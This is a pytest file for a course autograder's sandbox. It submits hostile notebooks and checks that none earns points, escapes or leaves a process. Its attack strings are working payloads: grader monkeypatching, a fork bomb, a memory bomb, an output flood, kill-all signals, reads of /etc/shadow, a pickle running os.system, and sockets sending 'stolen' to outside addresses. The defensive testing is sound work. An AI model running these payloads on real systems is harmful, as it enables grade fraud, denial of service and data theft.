"""Hostile submissions: none gains a point, harms another's grade, leaves a process, or reads what it should not.

Most are built alike: if a forbidden thing works, the right answers are put into place. A point is then proof of it.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import socket
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from course_lib.checks.catalog import find
from course_lib.checks.inside.runner import END, Submission
from course_lib.grading import cgroups, protection, sandbox, seccomp
from course_lib.grading.grader import SEED
from course_lib.grading.limits import Limits
from course_lib.grading.pages import page, write_pages
from course_lib.grading.records import Record
from course_lib.grading.submissions import find_submissions
from tests.checks.attacks_on_the_kernel import ENDLESS_ON_THE_KERNEL, HOARDS, KERNEL_ATTACKS
from tests.checks.class_of import (
    EXERCISE,
    ROOT,
    SOLUTION,
    hand_in,
    need_a_sandbox,
    patient_grader,
    right_answers,
    with_answers,
    with_first_cell,
)

pytestmark = [pytest.mark.timeout(1800), pytest.mark.slow]

# Before the attack: what it needs, and what it does when it has won.
TOOLS = f"""
import glob, json, os, signal, socket, subprocess, sys, threading, time
import torch, torch.distributed as dist
RIGHT = {right_answers()!r}
def won():
    global RIGHT_HERE
    RIGHT_HERE = True
RIGHT_HERE = False
"""
# After the stubs have been defined: the right answers, if the attack worked.
REWARD = """
if RIGHT_HERE:
    exec(RIGHT)
"""

ATTACKS = {
    "everything patched": """
        import builtins, course_lib.launcher
        import course_lib.checks as checks, course_lib.checks.plain as plain, course_lib.checks.observe as observe
        torch.equal = torch.allclose = lambda *a, **k: True
        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
        builtins.abs = lambda x: 0
        checks.check = lambda *a: 100.0
        plain.encode = observe.encode = lambda value, depth=0: {"points": 100}
    """,
    "another launcher": """
        import course_lib.launcher, course_lib.checks.observe as observe
        class Forged(tuple): pass
        course_lib.launcher.notebook.launch.launch = lambda *a, **k: Forged([0.5, 0.5])
        observe.launch = course_lib.launcher.notebook.launch.launch
        observe.observe = lambda *a: observe.Outcome("returned", values=(True, True))
    """,
    "forged lines": """
        line = json.dumps({"cell": 0, "error": "KeyError", "line": 1}) + "\\n"
        for name in glob.glob("/proc/*/fd/*"):
            try:
                with open(name, "w") as file:
                    file.write(line * 3)
            except OSError:
                pass
    """,
    "solutions on the disk": """
        for folder, _, files in os.walk("/"):
            if folder.startswith(("/proc", "/sys", "/usr")):
                continue
            for file in files:
                if file in ("every_example_once.py", "judging.py", "grader.py") or file.endswith("02_ddp.ipynb"):
                    won()
        try:
            import course_lib.lessons.lesson_02
            won()
        except ImportError:
            pass
        try:
            from course_lib.checks.catalog import exercises
            won()
        except ImportError:
            pass
        try:
            import course_lib.grading.grader
            won()
        except ImportError:
            pass
        import gc
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Exercise", "Case", "Report", "Finding"):
                won()
    """,
    "the other students": """
        for place in PLACES:
            if os.path.exists(place):
                won()
    """,
    "the gradebook": """
        for place in PLACES:
            try:
                os.makedirs(os.path.join(place, "records", "the gradebook"), exist_ok=True)
                with open(os.path.join(place, "grades.csv"), "w") as file:
                    file.write("mine")  # in a place of its own, if at all: looked at from outside
            except OSError:
                pass
    """,
    "the machine": """
        for folder, folders, files in os.walk("/home"):  # Python may lie there
            folders[:] = [each for each in folders if os.path.join(folder, each) not in (sys.prefix, sys.base_prefix)]
            if files:
                won()
        for place in ("/etc/shadow", "/etc/passwd", "/var/log"):
            try:
                os.listdir(place) if os.path.isdir(place) else open(place).read()
                won()
            except OSError:
                pass
        if os.getuid() == 0:
            won()
    """,
    "loop": "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
    "fork bomb": """
        children = 0
        try:
            while children < 1000:
                if os.fork() == 0:
                    time.sleep(100)
                children += 1
            won()
        except OSError:
            pass
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(1)
    """,
    "memory bomb of many": """
        for _ in range(20):
            if os.fork() == 0:
                hoard = bytearray(b"x" * (1500 << 20))
                time.sleep(100)
        time.sleep(5)
    """,
    "output flood": """
        message = (1 << 16).to_bytes(4, "big") + b"x" * (1 << 16)  # as the pipe to the outside takes it
        pipes = {os.readlink(name): name for name in glob.glob("/proc/self/fd/*") if os.path.exists(name)}
        for what, name in pipes.items():
            if what.startswith("pipe:") and os.fork() == 0:
                try:
                    with open(name, "wb", buffering=0) as file:
                        while True:
                            file.write(message)
                except OSError:
                    os._exit(0)
        time.sleep(8)
    """,
    "exit": "os._exit(0)",
    "kill everybody": "os.kill(-1, signal.SIGKILL)",
    "network": """
        for address in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("10.0.0.1", 80)]:
            try:
                socket.create_connection(address, timeout=1).sendall(b"stolen")
                won()
            except OSError:
                pass
    """,
    "detached child": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(300)
            os._exit(0)
    """,
}

ATTACKS |= KERNEL_ATTACKS
# Those that end by themselves and leave the process as it was are one submission: if one of them works, it has all
# points. `test_without_a_sandbox_the_same_attacks_work` shows that it would.
TOGETHER = [
    *("solutions on the disk", "the other students", "the gradebook", "the machine", "network", "detached child"),
    *("memory of nobody", "nested namespace", "mount of its own", "keyring", "another's memory", "odd calls"),
    *("odd sockets", "more than its limits", "devices", "what all share", "a wait that does not count"),
]
ALONE = [name for name in ATTACKS if name not in TOGETHER]

ANSWERS = {  # attacks from inside an answer, on the ranks
    "always equal": """
        class Anything(float):
            __eq__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __sub__ = __rsub__ = lambda self, other: Anything(0.0)
            __hash__ = float.__hash__
        class Tensors(torch.Tensor):
            __eq__ = lambda self, other: True
            __sub__ = lambda self, other: torch.zeros(())
        def average_gradients(model):
            for parameter in model.parameters():
                parameter.grad = torch.zeros(2, dtype=torch.float64).as_subclass(Tensors)
        def evaluate_together(total, count):
            return Anything(0.0)
        def my_share(count, rank, ranks, epoch, seed):
            class List(list):
                __eq__ = lambda self, other: True
                __len__ = lambda self: count
            return List([0])
    """,
    "pickles": """
        class Bomb:
            def __reduce__(self):
                return (os.system, (f"touch {CANARY}",))
        def evaluate_together(total, count):
            return Bomb()
        def my_share(count, rank, ranks, epoch, seed):
            return [Bomb()]
        def average_gradients(model):
            return Bomb()
    """,
    "loop on a rank": """
        def evaluate_together(total, count):
            while True: pass
    """,
    "exit on a rank": """
        def evaluate_together(total, count):
            os._exit(0)
        def average_gradients(model):
            os.kill(os.getppid(), signal.SIGKILL)
        def my_share(count, rank, ranks, epoch, seed):
            os.kill(-1, signal.SIGKILL)
    """,
    "a message in an error": """
        def evaluate_together(total, count):
            raise type(f"Secret{total}".replace(".", "_"), (Exception,), {})(f"hidden {total} {count}")
    """,
}


# Stopped by nothing but their time. All others end by themselves, or are stopped for something else.
ENDLESS = {"loop": 5, "fork bomb": 8, **ENDLESS_ON_THE_KERNEL}


@dataclasses.dataclass
class Graded:
    """A class of attackers and one honest student, graded."""

    records: dict[str, Record]
    out: Path
    visits: list[bytes]
    canary: Path


def hostile(name: str, **known: object) -> dict:
    tools = TOOLS + "".join(f"{variable.upper()} = {value!r}\n" for variable, value in known.items())
    if name in ANSWERS:
        return with_first_cell(EXERCISE, tools, last=textwrap.dedent(ANSWERS[name]))
    text = together() if name == "together" else textwrap.dedent(ATTACKS[name])
    return with_first_cell(EXERCISE, tools + text, last=REWARD)


def together() -> str:
    """The attacks that disturb nothing, one after the other; one that raises does not keep the next from being made."""
    each = [textwrap.indent(textwrap.dedent(ATTACKS[name]), "    ") for name in TOGETHER]
    return "".join(f"try:\n{text}\nexcept Exception:\n    pass\n" for text in each)


@pytest.fixture(scope="module")
def graded(request, tmp_path_factory) -> Iterator[Graded]:
    """The attacks that the selected tests ask for, and one honest student, graded together."""
    need_a_sandbox()
    selected = [item.callspec.params for item in request.session.items if hasattr(item, "callspec")]
    asked_for = {params["attack"] for params in selected if "attack" in params} | {"ada"}
    folder = tmp_path_factory.mktemp("class")
    submissions, out, canary = folder / "submissions", folder / "grades", folder / "canary"
    server, visits = socket.create_server(("127.0.0.1", 0)), []
    threading.Thread(target=visit, args=(server, visits), daemon=True).start()
    known = {
        "places": [str(submissions), str(out), str(ROOT / "solutions"), str(ROOT / "tests")],
        "port": server.getsockname()[1],
        "canary": str(canary),
    }
    for name in asked_for & {*ALONE, *ANSWERS, "together"}:
        hand_in(submissions, name, hostile(name, **known))
    ada = hand_in(submissions, "ada", SOLUTION)
    if "altered points" in asked_for:
        hand_in(submissions, "altered points", altered())
    if "link" in asked_for:
        (submissions / "link").mkdir()
        (submissions / "link" / "02_ddp.ipynb").symlink_to(ada)
    records = grade_all(submissions, out)
    write_pages(records, out)
    yield Graded({record.student: record for record in records}, out, visits, canary)
    server.close()


def grade_all(submissions: Path, out: Path) -> list[Record]:
    """Grade a class, the endless ones last, each with a time of its own, and the others with enough for a busy machine.

    More at a time than there are cores: most of them wait.
    """
    handed = find_submissions(submissions)
    patient = patient_grader(out, jobs=4)
    records = patient.grade([each for each in handed if each.student not in ENDLESS])
    for name, seconds in ENDLESS.items():
        patient.runs.limits = dataclasses.replace(patient.runs.limits, seconds=seconds)
        records += patient.grade([each for each in handed if each.student == name])
    return records


def visit(server: socket.socket, visits: list[bytes]) -> None:
    while True:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        visits.append(connection.recv(10))


def altered() -> dict:
    """Exercises whose cells say that they are worth more, and that they have passed."""
    notebook = with_answers(_3="def evaluate_together(total, count):\n    return total")
    for cell in notebook["cells"]:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✓ passed, 1000 of 1000 points"}]
    return notebook


@pytest.mark.parametrize("attack", ["together", *ALONE, *ANSWERS, "altered points", "link"])
def test_an_attack_earns_nothing(graded, attack):
    assert graded.records[attack].points == 0, graded.records[attack]
    assert graded.records[attack].most == 15


def test_the_honest_student_among_them_has_all_points(graded):
    assert graded.records["ada"].points == 15, graded.records["ada"]


@pytest.mark.skipif(os.geteuid() != 0, reason="submissions have a user of their own only if root starts them")
def test_nothing_is_left_running(graded):
    ours = range(sandbox.user(0), sandbox.user(0) + sandbox.IDS)
    left = [status for status in Path("/proc").glob("[0-9]*/status") if user_of(status) in ours]
    assert not left


def user_of(status: Path) -> int | None:
    try:
        return int(status.read_text().partition("\nUid:\t")[2].split()[0])
    except (OSError, IndexError):
        return None


def test_nobody_was_called_and_nothing_was_unpickled(graded):
    assert graded.visits == []
    assert not graded.canary.exists()


@pytest.mark.parametrize("attack", ["a message in an error"])
def test_a_page_carries_no_hidden_input_out(graded, attack):
    text = page("eve", [graded.records[attack]])
    assert "an exception" in text
    for case in find("02.3").cases(SEED):
        for total in case.inputs["totals"]:
            assert str(total) not in text
            assert str(total).replace(".", "_") not in text


@pytest.mark.parametrize("attack", ["forged lines"])
def test_no_forged_line_reaches_the_grader(graded, attack):
    """What it wrote to every file of every process would be read as an exception in a cell."""
    assert "KeyError" not in graded.records[attack].problem


REASONS = {
    "loop": "more than 15 s",  # the second time, alone
    "memory bomb of many": "memory",
    "output flood": "wrote too much|too much memory",  # what waits to be written lies in memory
    "exit": "ended its own process",
}


@pytest.mark.parametrize("attack", REASONS)
def test_a_submission_that_is_stopped_is_told_why(graded, attack):
    assert re.search(REASONS[attack], graded.records[attack].problem)
    assert graded.records["ada"].problem == ""


def test_a_submission_has_no_more_processes_than_its_limit():
    need_a_sandbox()
    forks = Submission(["import os, time\nfor _ in range(100):\n    os.fork() or time.sleep(60)"], [], timeout=5.0)
    few, many = (dataclasses.replace(Limits(seconds=300), processes=n, total_memory=1 << 60) for n in (60, 200))
    assert b'"BlockingIOError"' in sandbox.run(forks, few).lines[0]
    assert sandbox.run(forks, many).lines == [END]


@pytest.mark.parametrize(
    ("hoard", "counted_by"),
    [*((hoard, "the kernel") for hoard in HOARDS), *((hoard, "us") for hoard in ("of children", "shared", "in TCP"))],
)
def test_memory_counts_wherever_it_lies(hoard, counted_by, monkeypatch):
    need_a_sandbox()
    limits = dataclasses.replace(Limits(seconds=300), total_memory=1 << 30)
    if counted_by == "us":
        monkeypatch.setattr(cgroups, "make_group", lambda *_: None)
    else:
        need_a_group(limits)
    assert sandbox.run(Submission([HOARDS[hoard]], [], timeout=5.0), limits).reason == "it used too much memory"


def need_a_group(limits: Limits) -> None:
    group = cgroups.make_group(limits, 0)
    if group is None:
        pytest.skip("the kernel's groups may not be used here")
    group.remove()
    assert not any(folder.exists() for folder in group.folders)


def test_the_whole_project_is_hidden_also_where_it_lies_in_what_is_shown(tmp_path, monkeypatch):
    """The clone in the virtual environment, and in it another one."""
    need_a_sandbox()
    project = tmp_path / "venv" / "course"
    for name in ("solutions/02_ddp.ipynb", "tests/secret.py", "course_lib/checks/judging.py", ".venv/lib/shown.txt"):
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).touch()
    (project / "pyproject.toml").touch()
    os.chmod(tmp_path, 0o755)
    monkeypatch.setattr(sandbox, "PROJECT", project)
    shown = (*sandbox.PYTHON, str(tmp_path / "venv"), str(project / ".venv"))
    monkeypatch.setattr(sandbox, "PYTHON", shown)
    found = sandbox.try_inside(["find", str(tmp_path / "venv"), "-type", "f"])
    assert found.stdout.split() == [str(project / ".venv/lib/shown.txt")], found.stderr


def test_what_protects_the_machine_is_told_a_line_each(monkeypatch):
    need_a_sandbox()
    lines = protection.explain().splitlines()
    assert len(lines) == 11
    holds = {line[7:].split(":")[0]: line.split()[0] for line in lines[1:-1]}
    for what in ("submissions run in a sandbox", "no namespaces and no mounts inside", "keyrings are out of reach"):
        assert holds[what] == "yes", lines
    monkeypatch.setattr(cgroups, "make_group", lambda *_: None)
    monkeypatch.setattr(seccomp, "filter_program", lambda *_: None)
    without = protection.explain()
    assert "no   the kernel limits memory, processes and share" in without
    assert "no   system calls that no exercise needs are refused" in without


def test_a_filter_is_known_for_both_machines_and_for_no_other():
    for machine in ("x86_64", "aarch64"):
        program = seccomp.filter_program(machine)
        assert program is not None
        assert len(program) % 8 == 0
        assert len(program) // 8 < 4096
    assert seccomp.filter_program("riscv64") is None


def test_the_grades_were_written_by_nobody_else(graded):
    assert json.loads((graded.out / "records" / "ada" / "02_ddp.json").read_text())["student"] == "ada"
    assert (graded.out / "grades.csv").read_text().startswith("student,")


# Between these and what they are after stands nothing but the filter; for other users than root, bubblewrap, too.
FILTERED = ["memory of nobody", "keyring", "odd calls", "what all share", "a wait that does not count"]
FILTERED += ["nested namespace", "mount of its own"] if os.geteuid() == 0 else []


def test_without_the_filter_of_system_calls_the_same_attacks_work(monkeypatch):
    """The attacks are real, and so is what stops them."""
    need_a_sandbox()
    tried = [f"RIGHT_HERE = False\n{textwrap.dedent(ATTACKS[name])}\nworked.append(RIGHT_HERE)\n" for name in FILTERED]
    cells = [f"{TOOLS}\nworked = []\n{''.join(tried)}\nassert not {which}(worked)" for which in ("any", "all")]
    none, not_all = (Submission([cell], [], timeout=5.0) for cell in cells)
    assert sandbox.run(none, Limits(seconds=300)).lines == [END]
    monkeypatch.setattr(seccomp, "filter_program", lambda *_: None)
    assert b'"AssertionError"' in sandbox.run(not_all, Limits(seconds=300)).lines[0]


def test_without_a_sandbox_the_same_attacks_work(tmp_path):
    """The attacks are real: what earns nothing above earns everything where nothing stops it."""
    hand_in(tmp_path / "class", "eve", hostile("together", places=[str(tmp_path)], port=0))
    (record,) = patient_grader(tmp_path / "out", sandboxed=False).grade(find_submissions(tmp_path / "class"))
    assert record.points == 15
